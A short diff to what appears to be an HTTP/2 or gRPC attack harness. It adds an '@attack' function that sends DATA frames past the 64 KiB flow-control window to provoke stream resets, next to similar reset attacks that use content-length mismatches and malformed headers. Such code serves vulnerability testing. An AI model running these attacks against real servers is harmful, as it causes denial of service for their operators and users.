@@ -94,6 +94,13 @@ def made_you_reset_by_content_length():
 
 
 @attack
+def made_you_reset_by_data_beyond_the_window():
+    """Of calls that take one message and no more; who has not acknowledged our settings has windows of 64 KiB."""
+    encoded, more = block("Pause"), message(b"") + bytes(2**16)
+    yield from on_streams(lambda stream: headers(stream, encoded) + data(stream, more, flags=0))
+
+
+@attack
 def made_you_reset_by_malformed_headers():
     encoded = block("Echo", without=(":path",))
     yield from on_streams(lambda stream: headers(stream, encoded))
